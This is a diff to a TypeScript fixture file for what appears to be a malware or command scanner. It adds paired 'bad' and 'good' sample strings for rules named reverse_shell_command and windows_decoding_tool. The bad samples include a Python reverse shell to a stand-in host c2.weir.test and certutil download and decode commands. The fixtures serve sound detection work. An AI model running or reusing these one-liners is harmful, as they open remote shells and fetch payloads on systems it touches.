@@ -19,6 +19,14 @@ export const CONTROL: readonly Pair[] = [
     good: `exports.c = 'bash -i';\n`,
   },
   {
+    rule: 'reverse_shell_command',
+    severity: 'high',
+    line: 1,
+    at: 'import',
+    bad: `exports.c = 'import os,pty,socket;s=socket.socket();s.connect(("c2.weir.test",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")';\n`,
+    good: `exports.c = 'import os,socket,subprocess;s=socket.socket();n=open(os.devnull);os.dup2(n.fileno(),0);subprocess.run(["own-server"])';\n`,
+  },
+  {
     rule: 'powershell_encoded',
     severity: 'high',
     line: 1,
@@ -40,6 +48,14 @@ export const CONTROL: readonly Pair[] = [
     line: 1,
     at: 'import',
     bad: `exports.c = 'certutil.exe -urlcache -f http://a.weir.test/x.exe x.exe';\n`,
+    good: `exports.c = 'certutil -hashfile x.exe SHA256';\n`,
+  },
+  {
+    rule: 'windows_decoding_tool',
+    severity: 'medium',
+    line: 1,
+    at: 'import',
+    bad: `exports.c = 'certutil -f -decode x.txt x.exe';\n`,
     good: `exports.c = 'certutil -hashfile x.exe SHA256';\n`,
   },
   {
